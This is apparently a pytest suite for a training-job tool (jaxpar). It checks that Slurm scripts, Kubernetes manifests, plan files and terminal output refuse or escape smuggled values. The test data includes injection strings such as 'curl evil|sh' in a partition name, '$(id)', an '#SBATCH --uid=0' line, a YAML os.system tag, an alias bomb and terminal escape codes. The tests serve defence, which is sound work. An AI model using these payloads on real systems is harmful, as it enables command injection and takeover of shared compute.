"""Values from flags, plans and other files stay values: in a shell line, in YAML and on a terminal."""

import json
import random
import re
import shlex
import subprocess
import sys
from pathlib import Path

import pytest
import yaml

from jaxpar.__main__ import main as jaxpar_main
from jaxpar.checkpoint.files import differences
from jaxpar.checkpoint.manifest import ArrayRecord
from jaxpar.checkpoint.match import check_arrays_match, check_config
from jaxpar.commands import cli as commands_cli
from jaxpar.commands.manifest import main, plan_flags
from jaxpar.commands.plot import read_curve
from jaxpar.jobs import Job, to_jobset, to_sbatch
from jaxpar.jobs.field_checks import FORMS
from jaxpar.jobs.job import check_job
from jaxpar.runtime.printable import printable, printable_lines

sys.path.insert(0, str(Path(__file__).parents[1] / "recipes"))

import cli
import house_report

JOB = {"name": "gpt", "command": ("recipes/gpt.py",), "data": 8, "image": "a:1"}
PLAN = {"data": 8, "stage": 1, "tensor": 1}
ESCAPE = "\x1b]0;owned\x07\x1b[2J"
SMUGGLED = [
    "gpu\n\ncurl evil|sh",
    "gpu\r",
    "gpu --wrap=id",
    "gpu\t--uid=0",
    "gpu#",
    "$(id)",
    "`id`",
    "gpu;id",
    "'gpu'",
    '"gpu"',
    "gpu\\",
    "-gpu",
    "gpu\x00",
    "gpu\x1b[2J",
    "gpu\u2028id",
    "gpu\u202e",
    "gpu\u00a0id",
    "{{gpu}}",
    "gpu: id",
    "a" * 300,
]


@pytest.mark.parametrize("name", [name for name in FORMS if name != "image"])
def test_no_field_of_a_job_holds_more_than_a_value(name):
    for value in SMUGGLED:
        with pytest.raises(ValueError, match=f"^{name} must be ") as error:
            Job(**JOB, **{name: value})
        assert str(error.value).isprintable(), value


@pytest.mark.parametrize("value", SMUGGLED)
def test_no_image_and_no_name_of_a_job_holds_more_than_a_value(value):
    for changed in ({"image": value}, {"name": value}):
        with pytest.raises(ValueError, match=r"must be (a container image|lower-case)"):
            Job(**JOB | changed)


def test_values_that_clusters_take_are_taken():
    taken = {
        "namespace": "research-1",
        "queue": "team.a",
        "topology": "cloud.example.com/rack_1",
        "replica_topology": "kubernetes.io/hostname",
        "gpus_per_node": 1,
        "checkpoint_claim": "bloom-0",
        "image": "registry.example:5000/a/b_c@sha256:0f",
        "partition": "gpu_p13,gpu-h100",
        "account": "abc@v100",
    }
    assert Job(**JOB | taken).partition == "gpu_p13,gpu-h100"


def test_the_partition_of_the_attack_is_refused_by_the_command(capsys):
    attack = [
        "manifest",
        "--kind",
        "sbatch",
        "--partition",
        "gpu\n\ncurl evil|sh",
        "--mesh.data",
        "8",
        "recipes/gpt.py",
    ]
    assert jaxpar_main(attack) == 2
    said = capsys.readouterr()
    assert said.out == ""
    assert said.err.startswith(
        r"error: --partition must be letters, digits, _, ., - and +, with commas between several, at most 253 long; got "
        r"'gpu\n\n"
    )
    assert len(said.err.splitlines()) == 1


@pytest.mark.parametrize("word", ["a\nb", "a\rb", "\x1b[2J", "a\x00b", "a\u2028b", "a\u202eb", "a" * 100_000], ids=repr)
def test_a_command_with_line_ends_or_control_characters_is_refused(word):
    with pytest.raises(ValueError, match="the words of a command must be text without line ends") as error:
        Job(**JOB | {"command": ("recipes/gpt.py", "--data", word)})
    assert str(error.value).isprintable()


def test_any_other_word_of_a_command_comes_through_whole_by_shell_and_yaml():
    rng = random.Random(0)
    letters = " '\"\\$`!#;&|<>(){}[]*?~=%@^:,-éñ字😀aZ0"
    for _ in range(12):
        words = ["".join(rng.choices(letters, k=rng.randrange(12))) for _ in range(3)]
        job = Job(**JOB | {"command": ("run", *words)})
        (line,) = [line for line in to_sbatch(job).splitlines() if line.startswith("srun ")]
        assert shlex.split(line)[2:] == ["run", *words]
        pod = yaml.safe_load(yaml.safe_dump(to_jobset(job)))["spec"]["replicatedJobs"][0]["template"]["spec"][
            "template"
        ]
        assert pod["spec"]["containers"][0]["command"] == ["run", *words]


@pytest.mark.parametrize(
    "changed",
    [
        {"data": "8\n#SBATCH --uid=0"},
        {"data": True},
        {"data": 8.0},
        {"gpus_per_node": 10**12},
        {"max_restarts": "3"},
        {"hours": float("inf")},
        {"hours": float("nan")},
        {"save_seconds": "60"},
        {"hours": 1e300},
    ],
    ids=str,
)
def test_numbers_of_a_job_are_numbers(changed):
    ((name, value),) = changed.items()
    job = Job(**JOB)
    object.__setattr__(job, name, value)  # the tests' type checks would refuse some first
    with pytest.raises(ValueError, match=f"^{name} must be (an integer|a number) under"):
        check_job(job)


def test_every_start_of_a_batch_script_has_a_token_of_its_own(tmp_path):
    script = tmp_path / "job.sh"
    script.write_text(to_sbatch(Job(**JOB)))
    (tmp_path / "srun").write_text('#!/bin/sh\necho "$JAXPAR_RUN_TOKEN"\n')
    (tmp_path / "srun").chmod(0o755)
    env = {"PATH": f"{tmp_path}:/usr/bin:/bin"}
    said = [
        subprocess.run(["bash", script], env=env, capture_output=True, text=True, check=True).stdout for _ in range(2)
    ]
    assert all(re.fullmatch(r"[0-9a-f]{32}\n", token) for token in said)
    assert said[0] != said[1]


def test_every_manifest_has_a_token_of_its_own():
    tokens = []
    for _ in range(2):
        pod = to_jobset(Job(**JOB))["spec"]["replicatedJobs"][0]["template"]["spec"]["template"]
        told = {variable["name"]: variable.get("value") for variable in pod["spec"]["containers"][0]["env"]}
        tokens.append(told["JAXPAR_RUN_TOKEN"])
    assert len(set(tokens)) == 2
    assert all(re.fullmatch("[0-9a-f]{32}", token) for token in tokens)


# -- plans --------------------------------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    "changed",
    [
        {"model": "gpt2 --out-dir /etc"},
        {"model": "--out-dir=/etc"},
        {"model": "gpt2\n--seed"},
        {"model": ["gpt2", "--out-dir"]},
        {"model": "gpt2" + ESCAPE},
        {"model": ""},
        {"dtype": "bfloat16 --seed 1"},
        {"schedule": "1f1b\t--seed"},
        {"executor": {"a": 1}},
        {"data": "8 --seed"},
        {"data": 8.0},
        {"data": True},
        {"data": 0},
        {"stage": -1},
        {"tensor": 10**400},
        {"tensor": float("inf")},
        {"batch_size": "32 --out-dir /etc"},
        {"seq": 1.5},
        {"num_microbatches": [1]},
        {"num_chunks": "2"},
        {"zero": "--seed"},
        {"layers_per_virtual_stage": ["1 --seed", 2]},
        {"layers_per_virtual_stage": "12"},
        {"layers_per_virtual_stage": {"1": 2}},
        {"layers_per_virtual_stage": [1, -2]},
        {"remat": "--seed"},
    ],
    ids=lambda changed: f"{changed}"[:40],
)
def test_no_setting_of_a_plan_can_be_a_flag_or_a_number_of_another_kind(changed, tmp_path):
    ((name, _),) = changed.items()
    with pytest.raises(ValueError, match=f"^{name} of a plan must be ") as error:
        plan_flags(PLAN | changed, ())
    assert str(error.value).isprintable()
    assert len(str(error.value)) < 300
    path = tmp_path / "plan.json"
    path.write_text(json.dumps([PLAN | changed]))
    with pytest.raises(ValueError, match=f"^{name} of a plan must be |Exceeds the limit"):
        main(["--plan", str(path), "--image", "a", "recipes/gpt.py"])


def test_flags_of_a_plan_at_random_are_never_more_than_the_plan_s_own():
    rng = random.Random(0)
    values = ["--seed", "gpt2", "a b", 1, -1, 2.5, None, True, [], [1, 2], ["--x"], {}, "1", ESCAPE]
    own = re.compile(
        r"--(mesh\.(data|stage|tensor)|model|batch-size|seq|dtype|schedule|num-microbatches|zero|num-chunks|remat|layers-per-virtual-stage)"
    )
    taken = 0
    for _ in range(3000):
        names = [
            "model",
            "batch_size",
            "seq",
            "dtype",
            "schedule",
            "zero",
            "num_chunks",
            "layers_per_virtual_stage",
            "remat",
        ]
        plan = PLAN | {name: rng.choice(values) for name in rng.sample(names, 2)}
        try:
            flags = plan_flags(plan, ())
        except ValueError:
            continue
        taken += 1
        assert all(own.fullmatch(word) for word in flags if word.startswith("-")), plan
        assert not any(" " in word for word in flags), plan
    assert taken > 50


BAD_JSON = {
    "deep": "[" * 5_000,
    "deep objects": '{"a":' * 5000 + "1" + "}" * 5000,
    "as deep as Python reads": "[" * 500 + "]" * 500,
    "many digits": f'[{{"data": {"9" * 5000}}}]',
    "no JSON": "\x1b[2J",
    "a list of lists": "[[]]",
    "text": '"data stage tensor"',
    "none": "[]",
    "a number": "3",
}


@pytest.mark.parametrize("text", BAD_JSON.values(), ids=BAD_JSON.keys())
@pytest.mark.parametrize("flag", ["--plan", "--schema", "--check"])
def test_json_of_another_form_is_one_line_with_its_flag(flag, text, tmp_path, capsys):
    path = tmp_path / "file.json"
    path.write_text(text)
    check = [] if flag == "--check" else ["--check", str(write_job(tmp_path))] if flag == "--schema" else []
    code = jaxpar_main(
        ["manifest", flag, str(path), *check, "--image", "a", "--mesh.data", "8", "recipes/gpt.py"][
            : 5 if check else None
        ]
    )
    said = capsys.readouterr().err
    if flag == "--schema" and code == 0:
        pytest.skip("jsonschema takes it for a schema that allows all")
    assert code == 2, said
    assert len(said.splitlines()) == 1
    assert said[:-1].isprintable()
    assert len(said) < 500


def write_job(folder):
    path = folder / "job.yaml"
    path.write_text(yaml.safe_dump(to_jobset(Job(**JOB))))
    return path


@pytest.mark.parametrize(
    "text",
    [
        "a: [",
        "kind: JobSet\nmetadata: 5\n",
        "kind: JobSet\nmetadata: {name: 5}\n",
        "kind: JobSet\nmetadata: {name: a}\nspec: []\n",
        "kind: JobSet\nmetadata: {name: a}\nspec: {replicatedJobs: [1]}\n",
        "&a [*a]",
        "a: &a [1, 1, 1, 1, 1, 1, 1, 1, 1, 1]\n"
        + "".join(
            f"{n}: &{n} [{', '.join(f'*{last}' for _ in range(10))}]\n"
            for last, n in ("ab", "bc", "cd", "de", "ef", "fg", "gh")
        ),
        "!!python/object/apply:os.system [id]",
        "a: \x07",
    ],
    ids=[
        "cut short",
        "no metadata",
        "no name",
        "no spec",
        "no job",
        "itself",
        "a million laughs",
        "a call",
        "a control",
    ],
)
def test_yaml_of_another_form_is_one_line(text, tmp_path, capsys):
    path = tmp_path / "job.yaml"
    path.write_text(text)
    assert jaxpar_main(["manifest", "--check", str(path)]) == 2
    said = capsys.readouterr().err
    assert len(said.splitlines()) == 1
    assert said[:-1].isprintable()
    assert len(said) < 500


def test_a_schema_that_would_be_fetched_is_refused(tmp_path):
    path = tmp_path / "schema.json"
    path.write_text('{"properties": {"spec": {"$ref": "http://127.0.0.1:1/evil"}}}')
    with pytest.raises(
        ValueError, match=re.escape("a schema of Kubernetes has no $ref; got one to 'http://127.0.0.1:1/evil'")
    ):
        main(["--check", str(write_job(tmp_path)), "--schema", str(path)])


def test_a_file_that_is_too_large_is_not_read_whole(tmp_path, monkeypatch):
    monkeypatch.setattr(commands_cli, "MAX_FILE_BYTES", 1000)
    for path in (Path("/dev/zero"), tmp_path / "large.json"):
        if path.parent == tmp_path:
            path.write_text("é" * 501)
        with pytest.raises(
            ValueError, match=f"--plan must name a file of at most 1000 bytes; got {path}, which has more"
        ):
            main(["--plan", str(path), "--image", "a", "recipes/gpt.py"])


# -- names on a terminal ------------------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    "character", ["\x00", "\x07", "\x1b", "\r", "\x7f", "\x85", "\x9b", "\u200f", "\u202e", "\u2028", "\ud800"]
)
def test_what_a_terminal_obeys_is_escaped(character):
    assert printable(f"a{character}b").isprintable()
    assert printable_lines(f"a{character}b\nc").replace("\n", "").isprintable()
    assert printable(f"a{character}b\n") == f"a{character}b\n".encode("unicode_escape").decode()


def test_other_text_is_left_as_it_is():
    assert printable("loss 0.5 → 損失 é") == "loss 0.5 → 損失 é"
    assert printable_lines("a\nb") == "a\nb"


def test_the_error_of_a_command_is_shown_escaped(capsys, tmp_path):
    assert jaxpar_main(["plot", str(tmp_path / ESCAPE)]) == 2
    assert jaxpar_main(["manifest", "--plan", str(tmp_path / ESCAPE), "recipes/gpt.py"]) == 2
    said = capsys.readouterr().err
    assert said.count(r"\x1b]0;owned\x07\x1b[2J") == 2
    assert said.replace("\n", "").isprintable()


def test_names_of_metrics_are_shown_escaped(tmp_path):
    path = tmp_path / "metrics.jsonl"
    path.write_text(json.dumps({"step": 0, f"a{ESCAPE}\nb": 1}) + "\n")
    with pytest.raises(ValueError, match="--metric must be in") as error:
        read_curve(path, "loss")
    assert str(error.value).isprintable()


@pytest.mark.parametrize(
    "line",
    ["[" * 100_000, "3", '{"step": 0, "loss": "high"}', '{"loss": 1}', '{"step": {}, "loss": 1}'],
    ids=lambda line: line[:30],
)
def test_metrics_of_another_form_are_one_line(line, tmp_path, capsys):
    (tmp_path / "metrics.jsonl").write_text(line + "\n")
    assert jaxpar_main(["plot", str(tmp_path)]) == 2
    said = capsys.readouterr().err
    assert len(said.splitlines()) == 1, said
    assert len(said) < 500


def test_names_of_a_checkpoint_are_shown_escaped(tmp_path):
    (tmp_path / f"a{ESCAPE}\nstep 9: fine").touch()
    (wrong,) = differences(tmp_path, {})
    assert wrong.isprintable()
    with pytest.raises(ValueError, match="config that it was saved with") as config:
        check_config({"a": 1}, {f"a{ESCAPE}": 2}, "step 1")
    with pytest.raises(ValueError, match="hold the arrays of the target") as arrays:
        check_arrays_match({f"params/{ESCAPE}": ArrayRecord((1,), f"f{ESCAPE}", 0)}, {}, "step 1")
    assert str(config.value).isprintable()
    assert str(arrays.value).isprintable()


def test_what_a_recipe_says_is_shown_escaped(capsys):
    cli.say(f"a column {ESCAPE}")
    with pytest.raises(SystemExit):
        cli.stop(2, f"a file {ESCAPE}")
    said = capsys.readouterr()
    assert said.out.strip().isprintable()
    assert said.err.strip().isprintable()


@pytest.mark.parametrize("text", ["[" * 100_000, "[]", "{}", '{"features": [1], "target": "a", "seen": []}'])
def test_a_model_that_no_run_has_written_is_refused(tmp_path, text):
    (tmp_path / house_report.MODEL).write_text(text)
    with pytest.raises(ValueError, match="must be one that a run has written"):
        house_report.predict(tmp_path, (1.0,))
